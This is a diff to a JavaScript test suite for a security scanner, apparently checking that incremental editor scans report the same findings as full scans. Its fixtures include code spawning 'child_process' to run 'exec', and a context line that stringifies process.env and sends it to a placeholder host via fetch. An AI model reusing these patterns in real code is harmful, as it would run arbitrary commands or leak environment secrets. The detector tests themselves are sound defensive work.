@@ -393,6 +393,15 @@ describe('incremental editor scan: same findings as a full scan', () => {
     assert.deepEqual(scanFileText(v1.replace('f(x)', 'eval(x)'), options('react.js')).findings.map((f) => f.ruleId), ['SEC-EVAL-001']);
   });
 
+  it('a member assigned to an object literal in another statement, edited there', () => {
+    const v1 = 'const o = {};\nfunction a() {}\no.cp = require("child_process");\nfunction b() {}\no.cp.exec("id");\n';
+    const v2 = v1.replace('require("child_process")', 'require("path")');
+    const scanner = assertSameAsFull('members.js', [v1, v2, v1]);
+    assert.equal(scanner.lastUpdate, 'incremental');
+    assert.ok(scanFileText(v1, options('members.js')).findings.some((f) => f.ruleId === 'SEC-SPAWN-001'));
+    assert.ok(!scanFileText(v2, options('members.js')).findings.some((f) => f.ruleId === 'SEC-SPAWN-001'));
+  });
+
   it('host data reaching a request URL through a chain of variables, edited at its start', () => {
     const v1 = 'const raw = JSON.stringify(process.env);\nfunction a() {}\nconst data = encodeURIComponent(raw);\nfunction b() {}\nfetch("https://x.example/?d=" + data);\n';
     const v2 = v1.replace('JSON.stringify(process.env)', 'JSON.stringify({ v: 1 })');
